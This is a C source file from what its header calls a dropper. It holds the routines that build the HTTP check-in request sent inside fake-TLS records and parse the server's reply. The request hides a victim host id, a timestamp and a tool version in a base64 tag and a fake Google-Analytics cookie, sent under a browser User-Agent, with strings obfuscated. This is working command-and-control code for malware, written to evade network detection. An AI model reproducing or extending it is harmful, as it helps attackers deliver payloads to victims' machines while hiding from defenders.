/* Dropper: the HTTP request that goes inside the fake-TLS records, and its answer. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "dropper.h"

int parse_url(const char *url, struct url *u)
{
    const char *p = url;
    u->port = 443;
    if (!strncmp(p, "https://", 8))
        p += 8;
    else if (!strncmp(p, "http://", 7)) {
        p += 7;
        u->port = 80;
    }
    size_t i = 0;
    while (*p && *p != '/' && *p != ':' && i + 1 < sizeof(u->host))
        u->host[i++] = *p++;
    u->host[i] = 0;
    if (!i)
        return -1;
    if (*p == ':') {
        char *e;
        unsigned long port = strtoul(p + 1, &e, 10);
        if (!port || port > 65535)
            return -2;
        u->port = (unsigned)port;
        p = e;
    }
    snprintf(u->path, sizeof(u->path), "%s", *p ? p : "/");
    return 0;
}

/* GET with the host id, time and version packed into a base64 tag and a Google-Analytics-like
 * cookie, under a browser User-Agent */
size_t build_request(char *out, size_t cap, const struct url *u, uint32_t host_id)
{
    uint8_t info[12];
    char tag[32], cookie[96];
    uint32_t now = (uint32_t)time(NULL);
    memcpy(info, &host_id, 4);
    memcpy(info + 4, &now, 4);
    info[8] = TOOL_VERSION;
    info[9] = (uint8_t)(host_id >> 5);
    info[10] = 0x41;
    info[11] = 0x7f;
    alpha_b64_encode(info, sizeof(info), tag, sizeof(tag));
    snprintf(cookie, sizeof(cookie), alpha_str(ASTR_COOKIE), host_id % 1000000u, now);
    int n = snprintf(out, cap,
                     "GET %s?v=%d&t=%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n%s%08x\r\n"
                     "Accept: */*\r\nConnection: keep-alive\r\n\r\n",
                     u->path, TOOL_VERSION, tag, u->host, alpha_str(ASTR_UA), cookie, host_id);
    return (n > 0 && (size_t)n < cap) ? (size_t)n : 0;
}

long parse_response(const uint8_t *buf, size_t n, const uint8_t **body)
{
    const char *ok = alpha_str(ASTR_OK);
    size_t okl = strlen(ok);
    if (n < okl + 4 || memcmp(buf, ok, okl) != 0)
        return -1;
    long clen = -1;
    for (size_t i = 0; i + 3 < n; i++) {
        if (buf[i] != '\r' || buf[i + 1] != '\n')
            continue;
        if (buf[i + 2] == '\r' && buf[i + 3] == '\n') {
            *body = buf + i + 4;
            size_t have = n - i - 4;
            if (clen < 0 || (size_t)clen > have)
                clen = (long)have;
            return clen;
        }
        if (n - i > 18 && !strncmp((const char *)buf + i + 2, "Content-Length: ", 16))
            clen = strtol((const char *)buf + i + 18, NULL, 10);
    }
    return -2;
}
